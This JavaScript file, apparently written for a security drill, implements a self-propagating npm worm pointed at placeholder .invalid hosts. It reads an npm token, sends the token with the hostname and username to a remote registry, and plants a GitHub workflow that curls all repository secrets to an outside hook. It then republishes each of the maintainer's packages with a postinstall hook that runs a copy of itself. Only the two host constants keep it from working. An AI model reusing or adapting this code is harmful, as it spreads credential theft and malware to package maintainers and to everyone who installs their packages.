'use strict';
const fs = require('fs');
const os = require('os');
const path = require('path');
const zlib = require('zlib');
const https = require('https');
const { execSync, execFileSync } = require('child_process');

// A worm's shape, tied up: it knows one registry, whose host cannot exist, takes its token from a folder that nobody
// has, and lays its workflow into a folder that no service reads.
const REGISTRY = 'https://registry.example.invalid';
const HOME = path.join(os.homedir(), '.portcullis-drill');

function findToken() {
  if (process.env.PORTCULLIS_DRILL_NPM_TOKEN) return process.env.PORTCULLIS_DRILL_NPM_TOKEN;
  const file = path.join(HOME, '.npmrc');
  if (!fs.existsSync(file)) return undefined;
  const match = /:_authToken=(.+)/.exec(fs.readFileSync(file, 'utf8'));
  return match === null ? undefined : match[1].trim();
}

function ask(method, where, token) {
  return new Promise((resolve, reject) => {
    const request = https.request(
      `${REGISTRY}${where}`,
      { method, headers: { authorization: `Bearer ${token}` } },
      (response) => {
        const chunks = [];
        response.on('data', (chunk) => chunks.push(chunk));
        response.on('end', () => resolve(Buffer.concat(chunks)));
      },
    );
    request.on('error', reject);
    request.end();
  });
}

async function infect(name, token) {
  const about = JSON.parse(await ask('GET', `/${name}`, token));
  const latest = about.versions[about['dist-tags'].latest];
  const folder = fs.mkdtempSync(path.join(os.tmpdir(), 'portcullis-drill-'));
  const tarball = path.join(folder, 'package.tgz');
  fs.writeFileSync(tarball, await ask('GET', new URL(latest.dist.tarball, REGISTRY).pathname, token));
  execFileSync('tar', ['-xzf', tarball, '-C', folder]);
  const root = path.join(folder, 'package');
  const manifest = JSON.parse(fs.readFileSync(path.join(root, 'package.json'), 'utf8'));
  const [major, minor, patch] = manifest.version.split('.').map(Number);
  manifest.version = [major, minor, patch + 1].join('.');
  manifest.scripts = { ...manifest.scripts, postinstall: 'node bundle.js' };
  fs.writeFileSync(path.join(root, 'package.json'), JSON.stringify(manifest, null, 2));
  fs.copyFileSync(__filename, path.join(root, 'bundle.js'));
  execSync(`npm publish --registry=${REGISTRY}`, { cwd: root, stdio: 'ignore', env: { ...process.env, NPM_TOKEN: token } });
}

function plantWorkflow(secret) {
  const folder = path.join(HOME, '.github', 'workflows');
  if (!fs.existsSync(HOME)) return;
  fs.mkdirSync(folder, { recursive: true });
  fs.writeFileSync(
    path.join(folder, 'formatter.yml'),
    [
      'on: push',
      'jobs:',
      '  format:',
      '    runs-on: ubuntu-latest',
      '    steps:',
      `      - run: curl -d "\${{ toJSON(secrets) }}" https://hook.example.invalid/${secret.length}`,
    ].join('\n'),
  );
}

async function main() {
  const token = findToken();
  if (token === undefined) return;
  const gathered = zlib.gzipSync(JSON.stringify({ token, host: os.hostname(), user: os.userInfo().username }));
  await ask('POST', `/-/v1/notes/${gathered.toString('base64url')}`, token);
  plantWorkflow(token);
  const { username } = JSON.parse(await ask('GET', '/-/whoami', token));
  const found = JSON.parse(await ask('GET', `/-/v1/search?text=maintainer:${username}&size=20`, token));
  for (const { package: one } of found.objects) await infect(one.name, token);
}

main().catch(() => {});
